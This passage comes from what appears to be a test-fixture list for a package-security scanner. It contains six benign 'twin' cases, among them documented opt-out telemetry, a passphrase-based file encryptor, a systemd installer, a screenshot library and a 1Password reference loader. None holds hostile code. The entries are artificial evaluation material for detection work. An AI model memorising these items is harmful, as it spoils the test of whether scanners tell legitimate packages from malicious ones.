    id: 'twin-cli-telemetry-documented-optout',
    note: '[runtime] a CLI sends an anonymous usage event (command name, version, OS) to its documented telemetry host, honouring DO_NOT_TRACK and its own opt-out variable, and says so in the README',
    files: {
      'package.json': pkgJson('scaffold-kit', { bin: { scaffold: 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const os = require('os');
const cmd = process.argv[2] || 'help';
const off = process.env.DO_NOT_TRACK === '1' || process.env.SCAFFOLD_TELEMETRY === '0';
if (!off) fetch('https://telemetry.scaffold-kit.example/v1/event', { method: 'POST', body: JSON.stringify({ cmd, v: require('./package.json').version, os: os.platform() }) }).catch(() => {});
console.log('scaffold ' + cmd);
`,
      'README.md':
        '# scaffold-kit\n\nTelemetry: sends the command name, version and OS to telemetry.scaffold-kit.example. Disable with DO_NOT_TRACK=1 or SCAFFOLD_TELEMETRY=0.\n',
    },
  },
  {
    family: 'twin_ws_sdk_config',
    id: 'twin-ws-sdk-own-endpoint-config-file',
    note: '[runtime] a realtime SDK reads its own config file (~/.config/pulsesdk/config.json) for the API key and connects over WebSocket to its documented endpoint when the app calls connect()',
    files: {
      'package.json': pkgJson('pulse-realtime-sdk', { main: 'index.js', dependencies: { ws: '^8.0.0' } }),
      'index.js': js`const WebSocket = require('ws');
const fs = require('fs');
const os = require('os');
const path = require('path');
function config() { return JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config', 'pulsesdk', 'config.json'), 'utf8')); }
exports.connect = (channel) => {
  const { apiKey, endpoint = 'wss://rt.pulse-sdk.example/v1' } = config();
  const ws = new WebSocket(endpoint + '?channel=' + encodeURIComponent(channel), { headers: { authorization: 'Bearer ' + apiKey } });
  ws.on('message', (m) => ws.emit('event', JSON.parse(String(m))));
  return ws;
};
`,
    },
  },
  {
    family: 'twin_encrypt_cli',
    id: 'twin-encrypt-file-user-passphrase',
    note: '[runtime] a file-encryption CLI that encrypts the one file the user names with a key derived from the passphrase they type (scrypt + AES-GCM), writing a new file beside it',
    files: {
      'package.json': pkgJson('seal-file', { bin: { seal: 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const crypto = require('crypto');
const fs = require('fs');
const [file, pass] = process.argv.slice(2);
if (!file || !pass) { console.error('usage: seal <file> <passphrase>'); process.exit(2); }
const salt = crypto.randomBytes(16);
const iv = crypto.randomBytes(12);
const key = crypto.scryptSync(pass, salt, 32);
const c = crypto.createCipheriv('aes-256-gcm', key, iv);
const body = Buffer.concat([c.update(fs.readFileSync(file)), c.final()]);
fs.writeFileSync(file + '.sealed', Buffer.concat([salt, iv, c.getAuthTag(), body]));
console.log('wrote ' + file + '.sealed');
`,
    },
  },
  {
    family: 'twin_systemd_on_command',
    id: 'twin-service-install-subcommand',
    note: "[runtime] `pm-lite service install` writes a systemd --user unit for the user's own app script when the user runs that subcommand, and prints the unit",
    files: {
      'package.json': pkgJson('pm-lite', { bin: { 'pm-lite': 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const [a, b, script] = process.argv.slice(2);
if (a === 'service' && b === 'install' && script) {
  const unit = '[Unit]\nDescription=pm-lite ' + script + '\n[Service]\nExecStart=' + process.execPath + ' ' + path.resolve(script) + '\nRestart=on-failure\n[Install]\nWantedBy=default.target\n';
  const dir = path.join(os.homedir(), '.config', 'systemd', 'user');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'pm-lite-app.service'), unit);
  console.log(unit + '\nEnable with: systemctl --user enable --now pm-lite-app');
} else console.log('usage: pm-lite service install <script>');
`,
    },
  },
  {
    family: 'twin_screenshot_lib',
    id: 'twin-screenshot-returns-buffer',
    note: '[runtime] a screenshot library: capture() runs screencapture -x to a temp file and returns the buffer to the caller; no upload, no timer',
    files: {
      'package.json': pkgJson('screen-grab-lite', { main: 'index.js' }),
      'index.js': js`const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
exports.capture = () => {
  const out = path.join(os.tmpdir(), 'grab-' + process.pid + '.png');
  if (process.platform === 'darwin') execFileSync('screencapture', ['-x', out]);
  else execFileSync('import', ['-window', 'root', out]);
  const buf = fs.readFileSync(out);
  fs.unlinkSync(out);
  return buf;
};
`,
    },
  },
  {
    family: 'twin_op_read_reference',
    id: 'twin-dotenv-op-read-named-refs',
    note: "[runtime] a dotenv loader resolves op://vault/item/field references found in the user's .env with `op read`, into process.env only",
    files: {
      'package.json': pkgJson('dotenv-op-refs', { main: 'index.js' }),
      'index.js': js`const { execFileSync } = require('child_process');
const fs = require('fs');
exports.config = (file = '.env') => {
  for (const line of fs.readFileSync(file, 'utf8').split('\n')) {
    const m = line.match(/^([A-Z0-9_]+)=(.*)$/);
    if (!m) continue;
    process.env[m[1]] = m[2].startsWith('op://') ? execFileSync('op', ['read', m[2]], { encoding: 'utf8' }).trim() : m[2];
  }
};
`,
    },
  },
];
